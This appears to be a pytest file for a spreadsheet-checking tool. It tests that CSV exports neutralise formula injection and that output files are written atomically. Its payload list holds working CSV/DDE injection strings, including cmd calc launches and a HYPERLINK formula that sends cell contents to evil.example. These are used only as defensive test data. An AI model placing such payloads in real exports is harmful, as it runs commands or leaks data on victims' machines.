"""Exports are safe to open (formula injection) and outputs are written atomically, never clobbered."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from table_cases import each1 as _each1

from perfxl.errors import PerfxlError
from perfxl.io.atomic import OutputExists, atomic_write
from perfxl.model import CellRef, Finding, Severity
from perfxl.result import FileResult, Summary
from perfxl.safety import FORMULA_TRIGGERS, neutralise_formula, neutralise_row

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injection_payloads_get_an_apostrophe(payload):
    assert neutralise_formula(payload) == "'" + payload


_PLAIN_NUMBERS_ARE_LEFT_ALONE_CASES = ["-12.5", "+3", "-1,234.50", "-5%", "-0.5e3", "+.5"]


def _plain_numbers_are_left_alone(number):
    assert neutralise_formula(number) == number


def test_plain_numbers_are_left_alone():
    _each1(_PLAIN_NUMBERS_ARE_LEFT_ALONE_CASES, _plain_numbers_are_left_alone)  # one test a list (fast22b)


_OTHER_VALUES_UNCHANGED_CASES = [12.5, -3, None, True, "执行率应为 100%", "", "'=already", "a=b"]


def _other_values_unchanged(value):
    assert neutralise_formula(value) is value


def test_other_values_unchanged():
    _each1(_OTHER_VALUES_UNCHANGED_CASES, _other_values_unchanged)  # one test a list (fast22b)


@given(st.text())
def test_no_neutralised_text_starts_a_formula(text):
    out = neutralise_formula(text)
    assert not out.startswith(FORMULA_TRIGGERS) or (out == text and text[0] in "+-")
    assert out.endswith(text)  # nothing of the user's text is lost, at most a prefix is added


def _csv_bytes(rows: list[list[object]]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf)
    for row in rows:
        writer.writerow(row)
    return buf.getvalue().encode("utf-8")


def _formula_cells_after_libreoffice(csv_path: Path, workdir: Path) -> list[tuple[str, object]]:
    """Open a CSV in LibreOffice (as a reviewer would), save as .xlsx, list cells that became formulas."""
    import openpyxl

    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{workdir / '.lo'}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(workdir),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    wb = openpyxl.load_workbook(workdir / (csv_path.stem + ".xlsx"))
    return [(c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.libreoffice
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_spreadsheet_evaluates_raw_payloads_but_not_neutralised_ones(tmp_path):
    """The control proves the test can fail: LibreOffice does run `=…` from a CSV."""
    raw = tmp_path / "raw.csv"
    raw.write_bytes(_csv_bytes([["text"], ["=1+1"], ['=HYPERLINK("http://evil.example","x")']]))
    assert _formula_cells_after_libreoffice(raw, tmp_path), "control: LibreOffice should evaluate raw formulas"
    safe = tmp_path / "safe.csv"
    safe.write_bytes(_csv_bytes([neutralise_row(["text", p, -5, "-5"]) for p in PAYLOADS]))
    assert _formula_cells_after_libreoffice(safe, tmp_path) == []


@pytest.mark.libreoffice
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_csv_report_with_hostile_cell_text_opens_without_formulas(tmp_path):
    """A finding quoting a hostile cell (sheet name and message) stays text in the CSV report."""
    from perfxl.report import ENCODING, render

    hostile = '=HYPERLINK("http://evil.example","点此")'
    finding = Finding(
        "F04", Severity.ERROR, CellRef(hostile, "G4"), hostile, hostile, expected="=1+1", actual="@SUM(1)"
    )
    result = FileResult(path="=cmd.xlsx", ok=True, findings=(finding,), summary=Summary.of([finding]))
    path = tmp_path / "report.csv"
    path.write_bytes(render([result], "csv").encode(ENCODING["csv"]))
    assert _formula_cells_after_libreoffice(path, tmp_path) == []


# ---------------------------------------------------------------- atomic writes


def test_atomic_write_creates_file_with_normal_permissions(tmp_path):
    target = atomic_write(tmp_path / "out" / "report.csv", "序号,问题\n")
    assert target.read_text(encoding="utf-8") == "序号,问题\n"
    mode = stat.S_IMODE(target.stat().st_mode)
    mask = os.umask(0)
    os.umask(mask)
    assert mode == 0o666 & ~mask  # not mkstemp's 0600
    assert [p.name for p in target.parent.iterdir()] == ["report.csv"]


def test_existing_output_is_refused_without_force(tmp_path):
    target = tmp_path / "report.html"
    target.write_text("old")
    with pytest.raises(OutputExists) as info:
        atomic_write(target, b"new")
    assert isinstance(info.value, PerfxlError)
    assert "已存在" in info.value.message and "--force" in info.value.message
    assert target.read_text() == "old"
    atomic_write(target, b"new", force=True)
    assert target.read_text() == "new"


def test_backup_keeps_the_original(tmp_path):
    target = tmp_path / "自评表.xlsx"
    target.write_bytes(b"original")
    atomic_write(target, b"annotated", backup=True)
    assert target.read_bytes() == b"annotated"
    assert (tmp_path / "自评表.xlsx.bak").read_bytes() == b"original"
    atomic_write(target, b"again", backup=True)
    assert (tmp_path / "自评表.xlsx.bak").read_bytes() == b"original"  # the first backup is never overwritten
    assert (tmp_path / "自评表.xlsx.bak1").read_bytes() == b"annotated"


def test_failing_writer_leaves_original_and_no_temp_file(tmp_path):
    target = tmp_path / "report.json"
    target.write_text("keep me")

    def boom(fh):
        fh.write(b"half")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        atomic_write(target, boom, force=True)
    assert target.read_text() == "keep me"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_writer_by_path_for_libraries_that_want_a_filename(tmp_path):
    import openpyxl

    def save(tmp: Path) -> None:
        wb = openpyxl.Workbook()
        wb.active["A1"] = "年度资金总额"
        wb.save(tmp)

    target = atomic_write(tmp_path / "copy.xlsx", save, by_path=True)
    assert openpyxl.load_workbook(target).active["A1"].value == "年度资金总额"
